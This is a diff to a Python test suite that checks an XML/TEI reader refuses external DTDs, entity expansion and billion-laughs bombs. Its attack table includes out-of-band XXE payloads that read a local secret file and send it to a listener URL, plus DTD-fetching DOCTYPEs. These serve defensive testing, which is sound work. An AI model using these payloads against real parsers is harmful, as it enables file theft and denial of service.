@@ -243,12 +243,20 @@ ATTACKS = [
         f'<!ENTITY % file SYSTEM "{b.secret.as_uri()}">'
         f'<!ENTITY % wrap "<!ENTITY leak SYSTEM \'{b.listener.url("?x=%file;")}\'>"> %wrap;]>',
         "&leak;"), r"DOCTYPE that declares entities"),
+    # A DOCTYPE that only names a DTD is accepted (TEI files often have one) and the
+    # DTD is never read: what only it could define is refused, not left out.
     Attack("external-dtd-local", lambda b: with_doctype(
         f'<!DOCTYPE TEI SYSTEM "{b.dtd}">', "&greeting;&secret;"),
-        r"DOCTYPE that refers to an external DTD"),
+        r"uses &greeting;, which only its DTD defines"),
     Attack("external-dtd-http", lambda b: with_doctype(
-        f'<!DOCTYPE TEI PUBLIC "-//Evil//DTD TEI//EN" "{b.listener.url("tei.dtd")}">'),
-        r"DOCTYPE that refers to an external DTD"),
+        f'<!DOCTYPE TEI PUBLIC "-//Evil//DTD TEI//EN" "{b.listener.url("tei.dtd")}">',
+        "Pete &evil; Hegseth"), r"uses &evil;, which only its DTD defines"),
+    Attack("external-dtd-entity-in-attribute", lambda b: with_doctype(
+        f'<!DOCTYPE TEI SYSTEM "{b.dtd}">').replace('xml:id="a1"', 'xml:id="a1" n="&secret;"'),
+        r"uses &secret;, which only its DTD defines"),
+    Attack("internal-subset-without-entities", lambda _: with_doctype(
+        '<!DOCTYPE TEI SYSTEM "tei.dtd" [<!ATTLIST annotation n CDATA "x">]>'),
+        r"DOCTYPE with declarations of its own"),
     Attack("billion-laughs", billion_laughs, r"DOCTYPE that declares entities"),
     Attack("billion-laughs-in-utf-16", lambda b: billion_laughs(b).replace(
         'encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16"),
@@ -352,6 +360,28 @@ def test_the_parser_itself_refuses_bombs_and_depth(listener: Listener) -> None:
         assert time.monotonic() - began < 2, name
 
 
+@pytest.mark.parametrize("collect_ids", [True, False])
+def test_the_parser_never_reads_a_dtd_whatever_its_flags(bait: Bait, collect_ids: bool) -> None:
+    """Defence in depth under the DOCTYPE rules: the parser's resolver gives nothing
+    for a DTD. Without it, libxml2 reads the local DTD a DOCTYPE names when ids are
+    not collected (the native reader's fast parse), ``load_dtd=False`` or not: a
+    DOCTYPE past the prolog scan (over 1 MB of comment) would have it opened."""
+    data = with_doctype(f'<!DOCTYPE TEI SYSTEM "{bait.dtd}">', "&greeting;").encode()
+
+    def undeclared(parser: etree.XMLParser) -> list[str]:
+        etree.fromstring(data, parser)
+        return [e.message for e in parser.error_log if e.type_name == "WAR_UNDECLARED_ENTITY"]
+
+    assert undeclared(parsing._parser(collect_ids=collect_ids)) == [
+        "Entity 'greeting' not defined"]  # the DTD that defines it was not read
+    if not collect_ids:  # what the resolver prevents: the same flags without it read it
+        bare = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False,
+                               collect_ids=False)
+        with pytest.raises(etree.XMLSyntaxError, match="from-dtd"):  # its %remote; is next
+            undeclared(bare)
+    assert bait.listener.requests == []
+
+
 def test_deep_but_legal_nesting_reads_without_recursion_error(tmp_path: Path) -> None:
     """250 nested inline annotations: under the parser's limit, so the reader must cope."""
     depth = 250
@@ -363,6 +393,23 @@ def test_deep_but_legal_nesting_reads_without_recursion_error(tmp_path: Path) ->
     opened = open_document(path)
     assert len(opened.document.annotations) == depth
     assert opened.document.document.text.startswith("x" + "y" * depth)
+
+
+@pytest.mark.parametrize("doctype", [
+    "<!DOCTYPE TEI>", '<!DOCTYPE TEI SYSTEM "{dtd}">',
+    """<!DOCTYPE TEI PUBLIC '-//TEI P5//DTD Main Document Type//EN' '{web}'>""",
+])
+def test_a_doctype_that_only_names_its_dtd_opens_and_nothing_is_read(bait: Bait,
+                                                                     doctype: str) -> None:
+    """TEI files often name their DTD: they open as they are, and the DTD (here one
+    defining the secret, or one on the web) is never read."""
+    declaration = doctype.format(dtd=bait.dtd, web=bait.listener.url("tei.dtd"))
+    path = bait.write("named.xml", with_doctype(declaration).encode())
+    opened = open_document(path)
+    assert opened.document.document.text == f"{FIRST}\n{SECOND}"
+    assert [a.id for a in opened.document.annotations] == ["a1"]
+    assert validate_bytes(path.read_bytes(), str(path)) == []
+    bait.assert_untouched(opened.document.document.text)
 
 
 def test_a_stylesheet_processing_instruction_is_never_applied(bait: Bait) -> None:
